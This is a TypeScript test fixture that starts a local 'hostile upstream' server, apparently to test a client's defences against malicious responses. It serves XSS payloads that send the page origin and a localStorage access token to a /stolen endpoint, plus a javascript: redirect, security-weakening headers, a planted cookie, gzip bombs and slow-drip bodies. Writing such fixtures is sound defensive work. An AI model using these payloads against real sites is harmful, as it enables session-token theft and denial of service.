import { createServer, type ServerResponse } from 'node:http';
import { gzipSync } from 'node:zlib';
import { freePort } from './server.ts';

const LARGE = 300 * 1024 * 1024;
const PIECE = Buffer.alloc(1024 * 1024, '"a",');
const ELSEWHERE = 'https://elsewhere.example/login?accessToken=stolen';

/** A document that reports its origin's session if its script runs. */
const thief = (url: string) =>
  `<script>fetch('${url}/stolen?' + location.origin + '&' + localStorage.getItem('accessToken'))</script><p>thief</p>`;
const SVG = (url: string) => `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${url}/stolen?svg')</script></svg>`;
const XHTML = (url: string) =>
  `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>fetch('${url}/stolen?xhtml')</script></body></html>`;

function drip(response: ServerResponse): void {
  const timer = setInterval(() => response.write(' '), 500);
  response.on('close', () => clearInterval(timer));
}

function pour(response: ServerResponse): void {
  let sent = 0;
  const more = () => {
    while (sent < LARGE && !response.closed) {
      sent += PIECE.length;
      if (!response.write(PIECE)) return void response.once('drain', more);
    }
    response.end('""]');
  };
  response.write('[');
  more();
}

const JSON_TYPE = { 'content-type': 'application/json' };
const envelope = (result: unknown) => JSON.stringify({ isSuccess: true, code: 'COMMON200', message: '', result });

const FAULTS = {
  html: (response, url) => response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(thief(url)),
  'html with a failure': (response, url) => response.writeHead(500, { 'content-type': 'text/html' }).end(thief(url)),
  'html with its own policy': (response, url) =>
    response
      .writeHead(200, { 'content-type': 'text/html', 'content-security-policy': "default-src * 'unsafe-inline'; frame-ancestors *" })
      .end(thief(url)),
  svg: (response, url) => response.writeHead(200, { 'content-type': 'image/svg+xml' }).end(SVG(url)),
  xhtml: (response, url) => response.writeHead(200, { 'content-type': 'application/xhtml+xml' }).end(XHTML(url)),
  script: (response, url) => response.writeHead(200, { 'content-type': 'text/javascript' }).end(`fetch('${url}/stolen?script')`),
  'no type': (response, url) => response.writeHead(200).end(thief(url)),
  'a large body': (response) => pour(response.writeHead(200, JSON_TYPE)),
  'a large body that says so': (response) => pour(response.writeHead(200, { ...JSON_TYPE, 'content-length': LARGE })),
  'a large failure': (response) => pour(response.writeHead(500, JSON_TYPE)),
  'a large body in little gzip': (response) =>
    response.writeHead(200, { ...JSON_TYPE, 'content-encoding': 'gzip' }).end(gzipSync(Buffer.alloc(64 * 1024 * 1024, ' '))),
  'slow headers': () => undefined,
  'a slow body': (response) => drip(response.writeHead(200, JSON_TYPE)),
  'html under the type of JSON': (response, url) => response.writeHead(200, JSON_TYPE).end(thief(url)),
  'html under the type of a picture': (response, url) => response.writeHead(200, { 'content-type': 'image/png' }).end(thief(url)),
  'JSON of another shape': (response) => response.writeHead(200, JSON_TYPE).end('{"unexpected":[1]}'),
  'an empty 401': (response) => response.writeHead(401).end(),
  'an empty 204': (response) => response.writeHead(204).end(),
  'a failure of the contract': (response) =>
    response.writeHead(409, JSON_TYPE).end('{"isSuccess":false,"code":"R0001","message":"이미 있어요.","result":null}'),
  'headers that speak for us': (response) =>
    response
      .writeHead(200, {
        ...JSON_TYPE,
        'strict-transport-security': 'max-age=0',
        'clear-site-data': '"storage"',
        refresh: '0; url=https://elsewhere.example/',
        link: '<https://elsewhere.example/x.js>; rel=preload; as=script',
        'access-control-allow-origin': '*',
        'content-security-policy': 'default-src *',
        'cross-origin-opener-policy': 'unsafe-none',
        'service-worker-allowed': '/',
        'x-cache': 'HIT',
      })
      .end(envelope([])),
  'a cookie': (response) => response.writeHead(200, { ...JSON_TYPE, 'set-cookie': 'oauth=theirs; Path=/' }).end(envelope([])),
  'a redirect elsewhere': (response) => response.writeHead(302, { location: ELSEWHERE, 'content-type': 'text/html' }).end('<p>moved</p>'),
  'a redirect to a script': (response) => response.writeHead(302, { location: "javascript:fetch('/stolen')" }).end(),
  'a redirect without an address': (response) => response.writeHead(302).end(),
  'broken gzip': (response) =>
    response.writeHead(200, { ...JSON_TYPE, 'content-encoding': 'gzip' }).end(Buffer.concat([gzipSync('[').subarray(0, 12), PIECE])),
  'a body cut short': (response) => {
    response.writeHead(200, { ...JSON_TYPE, 'content-length': 1000 }).write('[1,');
    setTimeout(() => response.destroy(), 50);
  },
} as const satisfies Readonly<Record<string, (response: ServerResponse, url: string) => unknown>>;

export type HostileFault = keyof typeof FAULTS;
export const HOSTILE_FAULTS = Object.keys(FAULTS) as readonly HostileFault[];

export type HostileUpstream = {
  readonly url: string;
  be(fault: HostileFault): void;
  /** Reports of scripts that ran. */
  readonly stolen: readonly string[];
  close(): void;
};

/** A hostile `UPSTREAM_URL` that records what its scripts steal. */
export async function openHostileUpstream(): Promise<HostileUpstream> {
  let fault: HostileFault = 'html';
  const stolen: string[] = [];
  const port = await freePort();
  const url = `http://127.0.0.1:${port}`;
  const server = createServer((request, response) => {
    response.on('error', () => undefined);
    if (request.url?.startsWith('/stolen')) {
      stolen.push(request.url);
      response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    } else FAULTS[fault](response, url);
  });
  await new Promise<void>((done) => server.listen(port, '127.0.0.1', done));
  return {
    url,
    stolen,
    be(next) {
      fault = next;
    },
    close() {
      server.closeAllConnections();
      server.close();
    },
  };
}
